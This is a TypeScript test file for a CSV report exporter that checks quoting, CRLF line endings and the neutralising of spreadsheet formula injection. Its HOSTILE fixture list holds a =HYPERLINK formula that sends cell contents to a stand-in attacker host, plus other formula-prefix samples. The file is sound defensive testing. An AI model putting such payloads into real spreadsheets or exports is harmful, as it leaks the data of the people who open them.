import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CSV_BOM, csvField, csvValue, tableToCsv } from "../../../server/reports/csv.js";
import type { Table } from "../../../server/reports/table.js";

const parseCsv = (text: string): string[][] => parse(text, { bom: true, relax_column_count: false });

/** What a text cell must read back as: the text itself, with an apostrophe in front if it could run. */
const neutralised = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"bấm vào đây")',
  "+1",
  "-5 điểm",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  'Quầy "số 3", tầng 1',
  "dòng một\ndòng hai\r\ndòng ba",
  "办事人员很热情，效率很高。",
  "Sở Tư pháp",
  "",
  " =not a formula: starts with a space",
];

describe("csvField", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+84 912", "'+84 912"],
    ["-5 điểm", "'-5 điểm"],
    ["@SUM(A1)", "'@SUM(A1)"],
    ["\tx", "'\tx"],
    ["\rx", `"'\rx"`],
    ['a "b"', '"a ""b"""'],
    ["a,b", '"a,b"'],
    ["a\nb", '"a\nb"'],
    ["=A1,B1", `"'=A1,B1"`],
    ["Hà Nội", "Hà Nội"],
  ])("writes %j as %j", (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it("round-trips any text through csv-parse, neutralised and nothing else", () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: "binary" }), { minLength: 1, maxLength: 6 }), (cells) => {
        // csv-parse reads a lone empty record as no record; a sentinel column keeps every record.
        const line = `${[...cells, "end"].map(csvField).join(",")}\r\n`;
        expect(parseCsv(line)).toEqual([[...cells.map(neutralised), "end"]]);
      }),
    );
  });
});

describe("csvValue", () => {
  it("writes figures with 2 decimals, half away from zero, and no data as an empty cell", () => {
    expect(csvValue(66.665, "figure")).toBe("66.67");
    expect(csvValue(200 / 3, "figure")).toBe("66.67");
    expect(csvValue(50, "figure")).toBe("50.00");
    expect(csvValue(null, "figure")).toBe("");
    expect(csvValue(null, "text")).toBe("");
  });

  it("writes counts as whole numbers and flags as true or false, never neutralised", () => {
    expect(csvValue(1234, "integer")).toBe("1234");
    expect(csvValue(true, "boolean")).toBe("true");
    expect(csvValue(false, "boolean")).toBe("false");
  });
});

describe("tableToCsv", () => {
  const table: Table = {
    sheet: "T",
    columns: [
      { name: "unit_name", kind: "text" },
      { name: "respondents", kind: "integer" },
      { name: "sipas_index", kind: "figure" },
      { name: "small_sample", kind: "boolean" },
    ],
    rows: HOSTILE.map((name, i) => [name, i, i === 0 ? null : 100 / (i + 2), i % 2 === 0]),
  };
  const text = tableToCsv(table);

  it("starts with a BOM and ends every record with CRLF", () => {
    expect(text.startsWith(CSV_BOM)).toBe(true);
    expect(text.startsWith(`${CSV_BOM}unit_name,respondents,sipas_index,small_sample\r\n`)).toBe(true);
    expect(text.endsWith("\r\n")).toBe(true);
    // Outside quoted fields no line ends with a bare LF.
    const unquoted = text.replace(/"(?:[^"]|"")*"/g, "");
    expect(unquoted).not.toMatch(/[^\r]\n/);
  });

  it("reads back with csv-parse as the same cells, hostile text neutralised", () => {
    const [header, ...rows] = parseCsv(text);
    expect(header).toEqual(["unit_name", "respondents", "sipas_index", "small_sample"]);
    expect(rows).toEqual(
      HOSTILE.map((name, i) => [
        neutralised(name),
        String(i),
        i === 0 ? "" : (Math.round((100 / (i + 2)) * 100) / 100).toFixed(2),
        String(i % 2 === 0),
      ]),
    );
  });
});
